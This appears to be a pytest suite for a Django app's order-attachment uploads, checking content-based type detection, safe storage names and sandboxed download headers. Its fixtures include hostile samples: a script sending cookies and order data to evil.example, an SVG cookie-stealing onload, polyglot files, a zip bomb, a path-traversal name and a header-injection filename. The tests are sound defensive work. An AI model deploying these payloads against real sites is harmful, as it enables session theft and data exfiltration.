"""Order attachments cannot run script in our origin (issue 10 § 1): a file is accepted by what
its bytes are, never its name or the client's Content-Type, against the order-document
allow-list (PDF, JPEG/PNG/WebP, XLSX, CSV); it is stored under a name of the server's; it is
served as a download with its checked type, nosniff and a sandbox policy; an order holds a
bounded number and size of files. Every refusal is a 400 naming `file` and stores nothing."""
from __future__ import annotations

from urllib.parse import quote

import pytest
from django.core.files.base import ContentFile

from accounts.models import Organisation, Role
from core import uploads
from core.errors import DomainError
from orders import services
from orders.models import Attachment, OrderEvent

from .. import upload_files as f
from ..api_checks import english_client as client, refused
from ..factories import OrganisationFactory, UserFactory
from ..personas import build_personas
from . import builders

pytestmark = pytest.mark.django_db

NOT_ALLOWED = "This kind of file is not accepted. Upload one of: PDF, JPEG, PNG, WebP, XLSX, CSV."
DOWNLOAD_CSP = "default-src 'none'; sandbox"

HTML = b"<!doctype html><html><body><script>fetch('/api/auth/me/').then(r => r.text())</script></body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.cookie)"><circle r="4"/></svg>'
XML = b'<?xml version="1.0" encoding="UTF-8"?>\n<order><product>bracelet</product></order>\n'
JS = (b"const token = document.cookie;\n"
      b"fetch('/api/orders/', {credentials: 'include'})\n"
      b"  .then(r => r.json()).then(rows => navigator.sendBeacon('https://evil.example/', JSON.stringify(rows)));\n")
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 48 + b"This program cannot be run in DOS mode"

FORBIDDEN = {
    "html": ("page.html", HTML, "text/html"),
    "svg": ("logo.svg", SVG, "image/svg+xml"),
    "xml": ("order.xml", XML, "application/xml"),
    "js": ("app.js", JS, "text/javascript"),
    "html named .pdf": ("drawing.pdf", HTML, "application/pdf"),
    "svg named .png": ("photo.png", SVG, "image/png"),
    "svg named .csv": ("sizes.csv", SVG, "text/csv"),
    "html after a BOM and blank lines, named .csv": ("sizes.csv", b"\xef\xbb\xbf \r\n\t<html><script>1</script>",
                                                     "text/csv"),
    "exe": ("setup.exe", EXE, "application/octet-stream"),
    "exe named .jpg": ("photo.jpg", EXE, "image/jpeg"),
    "plain zip": ("files.zip", f.zipped({"readme.txt": b"hello"}), "application/zip"),
    "zip without a workbook, named .xlsx": ("sheet.xlsx", f.zipped({"[Content_Types].xml": f.WORKBOOK_TYPES,
                                                                    "xl/other.xml": b"<x/>"}),
                                            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
    "a workbook whose types say it is not one": ("sheet.xlsx", f.zipped({
        "[Content_Types].xml": b"<Types/>", "xl/workbook.xml": f.WORKBOOK}), "application/octet-stream"),
    "macro-enabled workbook named .xlsx": ("sheet.xlsx", f.zipped({
        "[Content_Types].xml": f.WORKBOOK_TYPES.replace(
            b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
            b"application/vnd.ms-excel.sheet.macroEnabled.main+xml"),
        "xl/workbook.xml": f.WORKBOOK, "xl/vbaProject.bin": b"\x00" * 64}), "application/octet-stream"),
    "html with a workbook zip appended": ("sheet.xlsx", HTML + f.xlsx(), "application/octet-stream"),
    "gif": ("photo.gif", f.gif(), "image/gif"),
    "gif named .png": ("photo.png", f.gif(), "image/png"),
    "gif/html polyglot": ("photo.gif", b"GIF89a/*<svg/onload=alert(1)>*/=1;", "image/gif"),
    "gif/html polyglot named .csv": ("a.csv", b"GIF89a,<svg onload=alert(1)>", "text/csv"),
    "png header with no image": ("photo.png", b"\x89PNG\r\n\x1a\n" + HTML, "image/png"),
    "truncated png": ("photo.png", f.png()[:40], "image/png"),
    "jpeg header with html": ("photo.jpg", b"\xff\xd8\xff\xe0" + HTML, "image/jpeg"),
    "one line of text": ("notes.csv", b"just some words\n", "text/csv"),
    "ragged text": ("notes.csv", b"a,b\nc\nd,e,f\n", "text/csv"),
    "utf-16 text": ("sizes.csv", "款号,数量\n".encode("utf-16"), "text/csv"),
    "binary noise": ("data.csv", bytes(range(1, 256)) * 4, "text/csv"),
}

ALLOWED = {
    "pdf": ("图纸.pdf", f.pdf(), "application/pdf", "pdf"),
    "jpeg": ("样品.jpg", f.jpeg(), "image/jpeg", "jpg"),
    "png": ("sample.png", f.png(), "image/png", "png"),
    "webp": ("sample.webp", f.webp(), "image/webp", "webp"),
    "xlsx": ("尺码表.xlsx", f.xlsx(), "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", "xlsx"),
    "csv utf-8": ("尺码表.csv", f.csv_utf8(), "text/csv", "csv"),
    "csv gb18030": ("颜色.csv", f.csv_gb18030(), "text/csv", "csv"),
}


@pytest.fixture
def p(db):
    return build_personas()


@pytest.fixture
def order(p, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    return builders.published(p.firm)


def post(user, order, name: str, content: bytes, content_type: str = "application/octet-stream", **data):
    return client(user).post(f"/api/orders/{order.pk}/attachments/",
                             {"file": f.upload(name, content, content_type), **data}, format="multipart")


def nothing_stored(order) -> None:
    assert not Attachment.objects.filter(order=order).exists()
    assert not OrderEvent.objects.filter(order=order, action="attachment_added").exists()


# --- what is refused ---------------------------------------------------------------------------

@pytest.mark.parametrize("kind", FORBIDDEN)
def test_a_file_that_is_not_an_order_document_is_refused_whatever_its_name(p, order, kind):
    name, content, content_type = FORBIDDEN[kind]
    refused(post(p.firm, order, name, content, content_type), "file", NOT_ALLOWED, code="file_type_not_allowed")
    nothing_stored(order)


def test_the_refusal_is_translated(p, order, client_for):
    response = client_for(p.firm).post(f"/api/orders/{order.pk}/attachments/", {"file": f.upload("a.html", HTML)},
                                       format="multipart", HTTP_ACCEPT_LANGUAGE="zh-hans")
    body = response.json()
    assert response.status_code == 400 and body["code"] == "file_type_not_allowed"
    assert body["fields"]["file"] == ["不接受此类文件。请上传以下类型之一：PDF, JPEG, PNG, WebP, XLSX, CSV。"]


def test_a_zip_bomb_named_xlsx_is_refused_by_its_declared_size(p, order, monkeypatch):
    # given a workbook that would unpack to more than the limit (the limit lowered to keep the test small)
    monkeypatch.setattr(uploads, "XLSX_MAX_UNCOMPRESSED_BYTES", 1024 * 1024)
    bomb = f.zipped({"[Content_Types].xml": f.WORKBOOK_TYPES, "xl/workbook.xml": f.WORKBOOK,
                     "xl/worksheets/sheet1.xml": b"\x00" * (2 * 1024 * 1024)})
    assert len(bomb) < 10_000
    refused(post(p.firm, order, "sheet.xlsx", bomb), "file", NOT_ALLOWED, code="file_type_not_allowed")
    nothing_stored(order)
    # and the same workbook within the limit is taken
    monkeypatch.setattr(uploads, "XLSX_MAX_UNCOMPRESSED_BYTES", 3 * 1024 * 1024)
    assert post(p.firm, order, "sheet.xlsx", bomb).status_code == 201


def test_a_workbook_with_too_many_entries_is_refused(p, order, monkeypatch):
    monkeypatch.setattr(uploads, "XLSX_MAX_ENTRIES", 5)
    many = f.zipped({"[Content_Types].xml": f.WORKBOOK_TYPES, "xl/workbook.xml": f.WORKBOOK,
                     **{f"xl/media/{i}.bin": b"x" for i in range(4)}})
    refused(post(p.firm, order, "sheet.xlsx", many), "file", code="file_type_not_allowed")


def test_an_image_of_too_many_pixels_is_refused(p, order, monkeypatch):
    monkeypatch.setattr(uploads, "IMAGE_MAX_PIXELS", 100)
    refused(post(p.firm, order, "big.png", f.image("PNG", size=(20, 20))), "file", code="file_type_not_allowed")
    assert post(p.firm, order, "small.png", f.image("PNG", size=(10, 10))).status_code == 201


def test_an_oversize_file_is_refused_before_its_content_is_read(p, order, settings):
    settings.ATTACHMENT_MAX_BYTES = 1024
    refused(post(p.firm, order, "drawing.pdf", f.pdf(1025)), "file",
            "A file may be at most 0 MB; this one has 1025 bytes.", code="file_too_large")
    nothing_stored(order)
    assert post(p.firm, order, "drawing.pdf", f.pdf(1024)).status_code == 201


def test_an_order_holds_at_most_the_configured_number_of_files(p, order, settings):
    settings.ATTACHMENTS_PER_ORDER_MAX = 2
    assert post(p.firm, order, "a.pdf", f.pdf()).status_code == 201
    assert post(p.firm, order, "b.png", f.png()).status_code == 201
    refused(post(p.firm, order, "c.pdf", f.pdf()), "file", "An order may have at most 2 attachments.",
            code="too_many_attachments")
    assert order.attachments.count() == 2
    # another order has room of its own
    other = builders.published(p.firm)
    assert post(p.firm, other, "c.pdf", f.pdf()).status_code == 201


def test_an_orders_files_together_stay_within_the_configured_total(p, order, settings):
    settings.ATTACHMENTS_PER_ORDER_MAX_BYTES = 3 * 1024 * 1024
    assert post(p.firm, order, "a.pdf", f.pdf(2 * 1024 * 1024)).status_code == 201
    refused(post(p.firm, order, "b.pdf", f.pdf(1024 * 1024 + 1)), "file",
            "An order's attachments may total at most 3 MB; 2 MB are used and this file has 1048577 bytes.",
            code="attachments_too_large")
    assert order.attachments.count() == 1
    assert post(p.firm, order, "b.pdf", f.pdf(1024 * 1024)).status_code == 201  # exactly the total


# --- what is accepted, how it is stored and served ---------------------------------------------

@pytest.mark.parametrize("kind", ALLOWED)
def test_an_order_document_is_stored_under_a_server_name_and_served_as_a_download(p, order, kind):
    name, content, content_type, extension = ALLOWED[kind]
    # the client's Content-Type is ignored: it says text/html
    posted = post(p.firm, order, name, content, "text/html", caption="样品")
    assert posted.status_code == 201, posted.json()
    row = posted.json()
    assert (row["name"], row["content_type"], row["size"], row["caption"]) == (name, content_type, len(content), "样品")

    attachment = Attachment.objects.get(pk=row["id"])
    stored = attachment.file.name.rsplit("/", 1)[-1]
    assert attachment.file.name.startswith(f"orders/{order.pk}/")
    assert stored.endswith(f".{extension}") and name.rsplit(".", 1)[0] not in stored
    assert (attachment.content_type, attachment.original_name) == (content_type, name)

    response = client(p.broker).get(row["url"])  # a broker: the board's orders are open to every broker
    assert response.status_code == 200
    assert b"".join(response.streaming_content) == content
    assert response["Content-Type"] == content_type
    assert response["Content-Disposition"] == f"attachment; filename*=utf-8''{quote(name)}" if not name.isascii() \
        else f'attachment; filename="{name}"'
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Cache-Control"] == "private, no-store"
    assert response["Content-Security-Policy"] == DOWNLOAD_CSP


def test_a_pdf_with_html_after_its_header_is_a_pdf_served_as_a_pdf_download(p, order):
    posted = post(p.firm, order, "page.html", b"%PDF-1.7\n" + HTML)
    assert posted.status_code == 201, posted.json()
    assert posted.json()["name"] == "page.html.pdf"  # the download says what the file is
    response = client(p.firm).get(posted.json()["url"])
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"].startswith("attachment;")
    assert response["Content-Security-Policy"] == DOWNLOAD_CSP


@pytest.mark.parametrize(("given", "kind", "served"), [
    ("../../etc/passwd.pdf", uploads.PDF, "passwd.pdf"),
    ("C:\\Users\\李\\图纸.PDF", uploads.PDF, "图纸.PDF"),
    ('a"b;c\r\n.jpg', uploads.JPEG, "a_b;c.jpg"),
    ("photo.jpeg", uploads.JPEG, "photo.jpeg"),
    ("photo.png", uploads.JPEG, "photo.png.jpg"),
    ("...", uploads.CSV, "file.csv"),
    ("表" * 300 + ".xlsx", uploads.XLSX, "表" * 195 + ".xlsx"),
])
def test_the_clients_name_is_cleaned_for_the_download(given, kind, served):
    assert uploads.download_name(given, kind) == served


def test_a_file_from_before_the_check_is_served_as_a_plain_download(p, order):
    # given an attachment stored before content checks (no checked type), an HTML page
    old = Attachment.objects.create(order=order, file=ContentFile(HTML, name="page.html"), uploaded_by=p.firm)
    assert old.content_type == ""
    response = client(p.broker).get(f"/api/orders/{order.pk}/attachments/{old.pk}/file/")
    assert response.status_code == 200
    assert response["Content-Type"] == "application/octet-stream"
    assert response["Content-Disposition"] == 'attachment; filename="page.html"'
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Security-Policy"] == DOWNLOAD_CSP
    listed = client(p.firm).get(f"/api/orders/{order.pk}/attachments/").json()
    assert listed[0]["content_type"] == "application/octet-stream"


def test_the_migration_names_and_sizes_files_from_before(p, order):
    from importlib import import_module

    from django.apps import apps

    old = Attachment.objects.create(order=order, file=ContentFile(b"12345", name="notes.txt"), uploaded_by=p.firm)
    import_module("orders.migrations.0002_attachment_checked_type").existing_names_and_sizes(apps, None)
    old.refresh_from_db()
    assert (old.original_name, old.size, old.content_type) == (old.file.name.rsplit("/", 1)[-1], 5, "")


def test_a_file_lost_from_storage_is_a_404_not_a_500(p, order):
    posted = post(p.firm, order, "a.pdf", f.pdf()).json()
    attachment = Attachment.objects.get(pk=posted["id"])
    attachment.file.storage.delete(attachment.file.name)
    assert client(p.firm).get(posted["url"]).status_code == 404


# --- who may: as before ------------------------------------------------------------------------

def test_only_the_orders_firm_uploads_and_whoever_sees_the_order_downloads(p, order, client_for):
    other_firm = UserFactory(role=Role.FIRM_MEMBER, organisation=OrganisationFactory(kind=Organisation.Kind.FIRM))
    for user in (p.broker, p.team_head, p.worker, p.auditor):
        assert post(user, order, "a.pdf", f.pdf()).status_code == 403
    assert post(other_firm, order, "a.pdf", f.pdf()).status_code == 404
    assert client_for(None).post(f"/api/orders/{order.pk}/attachments/", {"file": f.upload("a.pdf", f.pdf())},
                                 format="multipart").status_code == 403
    nothing_stored(order)

    assert post(p.admin, order, "by-admin.pdf", f.pdf()).status_code == 201
    url = post(p.firm, order, "a.pdf", f.pdf()).json()["url"]
    for user in (p.firm, p.broker, p.team_head, p.rival_broker, p.admin):
        assert client(user).get(url).status_code == 200
    assert client(other_firm).get(url).status_code == 404
    assert client(p.worker).get(url).status_code == 403
    assert client_for(None).get(url).status_code == 403


def test_a_refused_file_is_refused_by_the_service_too(p, order, settings):
    # every path to an attachment (the API, a script, a task) goes through the one check
    with pytest.raises(DomainError) as error:
        services.attachment_add(actor=p.firm, order_id=order.pk, file=f.upload("a.pdf", HTML))
    assert error.value.code == "file_type_not_allowed"
    settings.ATTACHMENTS_PER_ORDER_MAX = 0
    with pytest.raises(DomainError) as error:
        services.attachment_add(actor=p.firm, order_id=order.pk, file=f.upload("a.pdf", f.pdf()))
    assert error.value.code == "too_many_attachments"
    nothing_stored(order)


@pytest.mark.postgres
@pytest.mark.django_db(transaction=True)
def test_two_uploads_at_once_cannot_both_take_the_last_place(settings, tmp_path):
    from .test_award_race import race

    personas = build_personas()
    settings.MEDIA_ROOT = tmp_path
    for _ in range(3):
        order = builders.published(personas.firm)
        settings.ATTACHMENTS_PER_ORDER_MAX = 2
        services.attachment_add(actor=personas.firm, order_id=order.pk, file=f.upload("a.pdf", f.pdf()))
        outcomes = race([
            lambda i=i: services.attachment_add(actor=personas.firm, order_id=order.pk,
                                                file=f.upload(f"{i}.pdf", f.pdf()))
            for i in range(4)
        ])
        assert sorted(kind for kind, _ in outcomes) == ["ok", "refused", "refused", "refused"], outcomes
        assert {code for kind, code in outcomes if kind == "refused"} == {"too_many_attachments"}
        assert Attachment.objects.filter(order=order).count() == 2
